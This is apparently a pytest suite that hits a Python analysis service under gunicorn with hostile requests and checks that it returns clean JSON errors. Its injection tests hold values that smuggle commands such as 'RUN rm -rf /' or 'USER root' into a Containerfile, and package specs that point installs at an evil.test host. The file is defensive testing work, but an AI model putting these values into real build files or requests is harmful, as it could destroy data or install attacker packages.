"""The analysis service against hostile requests (issue 17, issue 10 item 5), end to end:
``svcc serve-analysis`` under gunicorn on loopback, raw sockets where httpx would be polite.

Each test reproduces a defect of the service before the fix: chunked bodies read as empty,
names rendered unvalidated into generated files, HTML/empty 500s where a JSON 400/409 was
due, one upload costing a worker gigabytes, one bad file costing a whole directory."""

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import GOLDEN
from servers import running_service

GOOD = "def area(radius: float) -> float:\n    return 3.14 * radius**2\n"
MEMORY_MIB = 400
# The analysis budget of the module's service, in CPU seconds (its wall-clock deadline is twice
# that; a directory gets a quarter of it per file and nine tenths of it in all). Ample for every
# legitimate request here (each takes well under a second); the requests built to run out of
# it cost about this much each, so it is kept small (it was 30: half a minute per such test).
SECONDS = 10


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    root = base / "ws"
    root.mkdir()
    (root / "geometry.py").write_text(GOOD)
    (root / "a_file").write_text("not a folder\n")
    mixed = root / "mixed"
    mixed.mkdir()
    (mixed / "good.py").write_text(GOOD)
    (mixed / "surrogate.py").write_text('def f(x: int) -> int:\n    "\\ud800"\n    return x\n')
    os.mkfifo(mixed / "pipe.py")  # read without a bound, it would block the worker forever
    (base / "outside").mkdir()
    (base / "outside" / "secret.py").write_text(GOOD)
    (root / "escape").symlink_to(base / "outside", target_is_directory=True)
    return root


@pytest.fixture(scope="module")
def service(workspace: Path) -> Iterator[tuple[str, int]]:
    with running_service(
        workspace, "--max-analysis-memory", str(MEMORY_MIB), "--max-analysis-seconds", str(SECONDS)
    ) as running:
        yield running


@pytest.fixture(scope="module")
def http(service: tuple[str, int]) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=service[0], timeout=120) as client:
        yield client


def json_error(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/json"), response.text[:200]
    body: dict[str, Any] = response.json()
    assert set(body) >= {"title", "description"}
    return body


def chunks(data: bytes, size: int = 1000) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


def multipart(fields: dict[str, str], file: tuple[str, bytes] | None) -> tuple[bytes, str]:
    boundary = "svcc-test-boundary"
    out = b""
    for name, value in fields.items():
        out += (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    if file is not None:
        out += (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '.encode()
            + b'filename="'
            + file[0].encode("utf-8", "surrogateescape")
            + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
            + file[1]
            + b"\r\n"
        )
    out += f"--{boundary}--\r\n".encode()
    return out, f"multipart/form-data; boundary={boundary}"


def raw_request(url: str, request: bytes, timeout: float = 30) -> bytes:
    """Send ``request`` as is and read the whole answer (gunicorn closes the connection)."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        sock.sendall(request)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


# -- bodies: read in full or refused ------------------------------------------------------------


def test_chunked_conf_is_read(http: httpx.Client, workspace: Path) -> None:
    conf = json.dumps({"project_path": "chunked", "custom_packages": ["numpy==2.1.0"]}).encode()
    response = http.post(
        "/generate_requirements/",
        content=chunks(conf, 7),
        headers={"content-type": "application/json"},
    )
    assert response.json()["files"] == ["chunked/requirements.txt"], response.text
    assert "numpy==2.1.0" in (workspace / "chunked" / "requirements.txt").read_text()
    assert not (workspace / "requirements.txt").exists()


def test_chunked_multipart_upload_is_read(http: httpx.Client) -> None:
    body, content_type = multipart({"python_version": "3.11"}, ("g.py", GOOD.encode()))
    response = http.post(
        "/analyze_file/", content=chunks(body, 50), headers={"content-type": content_type}
    )
    assert response.status_code == 200, response.text
    result = response.json()
    assert result["version"] == "3.11"
    assert [f["name"] for f in result["functions"]] == ["area"]


def test_chunked_body_over_the_limit_is_413(workspace: Path) -> None:
    with running_service(workspace, "--max-upload-bytes", "1000") as (url, _):
        body, content_type = multipart({}, ("g.py", b"#" * 5000))
        with httpx.Client(base_url=url, timeout=60) as client:
            response = client.post(
                "/analyze_file/", content=chunks(body), headers={"content-type": content_type}
            )
            json_error(response, 413)
            conf = b'{"project_path": "' + b"x" * 2_000_000 + b'"}'
            json_error(
                client.post(
                    "/generate_containerfile/",
                    content=chunks(conf, 65536),
                    headers={"content-type": "application/json"},
                ),
                413,
            )


def test_short_body_is_400_not_acted_on(service: tuple[str, int], workspace: Path) -> None:
    """A body shorter than its Content-Length never reaches a handler as if complete."""
    conf = b'{"project_path": "short"}'
    request = (
        b"POST /generate_requirements/ HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: application/json\r\nContent-Length: 500\r\n\r\n" + conf
    )
    host, port = service[0].removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(request)
        sock.shutdown(socket.SHUT_WR)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 400"), answer[:300]
    assert b"application/json" in answer
    assert not (workspace / "short").exists()


def test_body_in_a_media_type_the_route_does_not_take_is_415(http: httpx.Client) -> None:
    json_error(http.post("/analyse_directory/", json={"directory_path": "."}), 415)


# -- names that reach generated files ------------------------------------------------------------


@pytest.mark.parametrize(
    ("conf", "field"),
    [
        ({"main_folder": "src\nUSER root\nRUN rm -rf /"}, "main_folder"),
        ({"main_folder": "../etc"}, "main_folder"),
        ({"main_folder": "/abs"}, "main_folder"),
        ({"api_filename": "my-app.py"}, "api_filename"),
        ({"api_filename": "class.py"}, "api_filename"),
        ({"api_filename": "app"}, "api_filename"),
        ({"server": {"wsgi_file_name": "wsgi\n.py"}}, "wsgi_file_name"),
        ({"server": {"wsgi_file_name": "app.py"}}, "wsgi_file_name"),
        ({"server": {"wsgi_conf_file_name": "g" * 300 + ".py"}}, "wsgi_conf_file_name"),
        ({"custom_packages": ["numpy\n--index-url http://evil.test/"]}, "custom_packages"),
        ({"custom_packages": ["pkg @ https://evil.test/pkg.whl"]}, "custom_packages"),
        ({"svc_requirements": ["a b c"]}, "svc_requirements"),
        ({"dependencies": [{"name": "x\nRUN id", "packages": []}]}, "name"),
        ({"encoding": "klingon"}, "encoding"),
        ({"container_image_tag": "3.18\nUSER root"}, "tag"),
    ],
)
def test_names_reaching_generated_files_are_validated(
    http: httpx.Client, workspace: Path, conf: dict[str, Any], field: str
) -> None:
    target = workspace / "injected"
    body = json_error(
        http.post("/generate_containerfile/", json={**conf, "project_path": "injected"}), 400
    )
    assert field in body["description"]
    assert not target.exists()


def test_valid_main_folder_reaches_the_containerfile(http: httpx.Client, workspace: Path) -> None:
    conf = {"main_folder": "src/app", "project_path": "folder_ok"}
    assert http.post("/generate_containerfile/", json=conf).status_code == 200
    text = (workspace / "folder_ok" / "Containerfile").read_text()
    assert "COPY --chown=65532:65532 src/app/ /app\n" in text
    assert text.count("USER ") == 1


# -- JSON errors where a 500 (HTML or empty) was --------------------------------------------------


def test_project_path_naming_a_file(http: httpx.Client) -> None:
    body = json_error(http.post("/generate_requirements/", json={"project_path": "a_file"}), 400)
    assert "a_file" in body["description"]


@pytest.mark.parametrize(
    "path", ["n" * 300, "deep/" * 300, "ok/" + "n" * 256 + "/x", "%s/x" % ("é" * 200)]
)
def test_names_too_long(http: httpx.Client, path: str) -> None:
    json_error(http.post("/generate_requirements/", json={"project_path": path}), 400)
    json_error(
        http.post("/process_file/", files={"file": ("x.py", GOOD.encode())}, data={"output": path}),
        400,
    )


def test_upload_name_too_long(http: httpx.Client) -> None:
    response = http.post("/process_file/", files={"file": ("n" * 300 + ".py", GOOD.encode())})
    assert "255" in json_error(response, 400)["description"]


def test_non_utf8_upload_name(http: httpx.Client) -> None:
    body, content_type = multipart({}, ("caf\udce9.py", GOOD.encode()))
    for route in ("/analyze_file/", "/process_file/"):
        response = http.post(route, content=body, headers={"content-type": content_type})
        json_error(response, 400)


def test_gunicorn_errors_are_json(service: tuple[str, int]) -> None:
    answer = raw_request(service[0], b"BOGUS\x01 / HTTP/1.1\r\nHost: x\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 400"), head
    assert b"Content-Type: application/json" in head
    assert set(json.loads(body)) == {"title", "description"}


def test_worker_timeout_answer_is_json(workspace: Path) -> None:
    """A request still running at gunicorn's worker timeout (here a client that stops
    sending) gets a JSON 503, not gunicorn's HTML 500."""
    with running_service(workspace, "--worker-timeout", "2") as (url, _):
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=60) as sock:
            sock.sendall(
                b"POST /generate_requirements/ HTTP/1.1\r\nHost: x\r\n"
                b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"2\r\n{}\r\n"
            )
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 503"), answer[:300]
        assert "worker timeout" in json.loads(body)["description"]
        with httpx.Client(base_url=url, timeout=60) as client:  # a new worker answers
            assert client.post("/analyze_file/", files={"file": ("g.py", GOOD)}).status_code == 200


# -- cost bounds ------------------------------------------------------------------------------


def worker_pids(master: int) -> list[int]:
    text = Path(f"/proc/{master}/task/{master}/children").read_text()
    return [int(pid) for pid in text.split()]


def peak_rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def test_huge_module_costs_a_422_not_the_worker(
    http: httpx.Client, service: tuple[str, int]
) -> None:
    """15 MB of ``x = 1`` cost a worker 6.47 GB; now the analysis runs out of its budget in a
    child and the worker stays small and keeps answering."""
    (worker,) = worker_pids(service[1])
    source = b"x = 1\n" * (15 * 1024 * 1024 // 6)
    response = http.post("/analyze_file/", files={"file": ("huge.py", source)})
    body = json_error(response, 422)
    # whichever budget it reaches first: memory or CPU time (front-end speed decides), or the
    # wall-clock deadline (twice the CPU seconds) when a loaded machine gives the child less
    # than half a core. Each limit has its own test with real rlimits (test_service_budget).
    reached = (f"{MEMORY_MIB} MiB", f"{SECONDS} seconds of CPU time", f"than {2 * SECONDS} seconds")
    assert any(words in body["description"] for words in reached), body
    assert worker_pids(service[1]) == [worker]  # the same worker, alive
    assert peak_rss_mib(worker) < 400
    assert http.post("/analyze_file/", files={"file": ("g.py", GOOD)}).status_code == 200


@pytest.mark.parametrize("extra", [0, 20], ids=["serial", "parallel"])
def test_bad_files_cost_only_their_own_entry(
    http: httpx.Client, workspace: Path, extra: int
) -> None:
    """A file over the repository front end's per-file bound is not even read (its entry
    says so); one under it that costs more than the per-file budget (memory or CPU) costs
    its own entry too; the other files of the directory are analysed."""
    big = workspace / "mixed" / "huge.py"
    big.write_bytes(b"x = 1\n" * (15 * 1024 * 1024 // 6))
    heavy = workspace / "mixed" / "heavy.py"
    heavy.write_bytes(b"x = 1\n" * (4 * 1024 * 1024 // 6 - 100))
    more = [workspace / "mixed" / f"more{i}.py" for i in range(extra)]
    for path in more:
        path.write_text(GOOD)
    try:
        response = http.post("/analyse_directory/", data={"directory_path": "mixed"})
    finally:
        big.unlink()
        heavy.unlink()
        for path in more:
            path.unlink()
    assert response.status_code == 200, response.text[:500]
    result = response.json()
    expected = {"good.py", "huge.py", "heavy.py", "pipe.py", "surrogate.py"}
    expected |= {p.name for p in more}
    assert set(result) == {f"mixed/{name}" for name in expected}
    for name in ["good.py", *(p.name for p in more)]:
        assert [f["name"] for f in result[f"mixed/{name}"]["functions"]] == ["area"]
    assert "regular file" in result["mixed/pipe.py"]["error"]["message"]
    assert "byte limit" in result["mixed/huge.py"]["error"]["message"]
    assert result["mixed/huge.py"]["error"]["code"] == "SVC-F010"
    assert any(b in result["mixed/heavy.py"]["error"]["message"] for b in ("memory", "budget"))
    surrogate = result["mixed/surrogate.py"]
    assert "error" in surrogate or surrogate["functions"][0]["name"] == "f"


# -- issue 10 item 5 --------------------------------------------------------------------------


def test_absolute_paths_inside_the_workspace(http: httpx.Client, workspace: Path) -> None:
    response = http.post("/analyse_directory/", data={"directory_path": str(workspace / "mixed")})
    assert response.status_code == 200, response.text
    assert "mixed/good.py" in response.json()
    output = str(workspace / "abs" / "out.py")
    response = http.post("/process_file/", files={"file": ("x.py", GOOD)}, data={"output": output})
    assert response.json() == {"status": "success", "output_path": "abs/out.py"}
    for refused in (
        str(workspace.parent / "outside"),
        str(workspace / "escape"),
        str(workspace / "mixed" / ".." / "mixed"),
        str(workspace) + "-sibling",
    ):
        json_error(http.post("/analyse_directory/", data={"directory_path": refused}), 400)


def test_notebook_upload_goes_through_the_notebook_front_end(http: httpx.Client) -> None:
    notebook = (GOLDEN / "notebook_magics" / "input.ipynb").read_bytes()
    response = http.post("/analyze_file/", files={"file": ("magics.ipynb", notebook)})
    result = response.json()
    assert "hypot" in [f["name"] for f in result["functions"]], result
    assert result["readiness"]["source"]["format"] == "notebook"


def test_containerize_python_version(http: httpx.Client, workspace: Path) -> None:
    response = http.post("/containerize_file/", data={"filename": "geometry.py", "output": "c1"})
    assert response.status_code == 200, response.text
    assert (
        "FROM python:3.11-alpine3.18 AS build" in (workspace / "c1" / "Containerfile").read_text()
    )
    body = json_error(
        http.post(
            "/containerize_file/",
            data={"filename": "geometry.py", "output": "c2", "python_version": "3.8"},
        ),
        400,
    )
    assert "python_version" in body["description"]
    assert "3.11" in body["description"]
    assert not (workspace / "c2").exists()
    body = json_error(http.post("/generate_containerfile/", json={"python_version": [3, 8]}), 400)
    assert "python_version" in body["description"]
    assert "3.14" in body["description"]


def test_service_imports_only_public_modules() -> None:
    """The service is a client of the compiler: no ``_private`` module of another package."""
    import ast

    from helpers import ROOT

    for path in (ROOT / "service").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = (
                [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else []
            )
            for name in names:
                if name.startswith("svcc.") and not name.startswith("svcc.service"):
                    private = [p for p in name.split(".") if p.startswith("_")]
                    assert not private, f"{path.name} imports {name}"


def test_more_client_errors_are_400(http: httpx.Client) -> None:
    """Each of these was a JSON (or HTML) 500."""
    deep = b'{"a":' * 100_000
    json_error(
        http.post(
            "/generate_server_files/", content=deep, headers={"content-type": "application/json"}
        ),
        400,
    )
    body = json_error(
        http.post("/containerize_file/", data={"filename": "nope.py", "output": "o9"}), 400
    )
    assert "nope.py" in body["description"]
    json_error(http.post("/containerize_file/", data={"filename": "a_file", "output": "o9"}), 400)


def test_upload_name_cannot_inject_lines(http: httpx.Client, workspace: Path) -> None:
    """RFC 5987 ``filename*`` decodes percent escapes: a line break in the name would end the
    processed file's header comment and inject code."""
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; '
        b"filename*=UTF-8''x%0Aimport%20os%0A.py\r\n\r\n" + GOOD.encode() + b"\r\n--b--\r\n"
    )
    response = http.post(
        "/process_file/",
        content=body,
        headers={"content-type": "multipart/form-data; boundary=b"},
        params={"output": "injected_header.py"},
    )
    assert "printable" in json_error(response, 400)["description"]
    assert not (workspace / "injected_header.py").exists()


def test_lone_surrogate_upload_is_a_client_error(http: httpx.Client) -> None:
    source = b'def f(x: int) -> int:\n    "\\ud800"\n    return x\n'
    response = http.post("/analyze_file/", files={"file": ("s.py", source)})
    assert response.status_code in (200, 400), response.text  # never a 500
    if response.status_code == 400:
        assert "s.py" in json_error(response, 400)["description"]
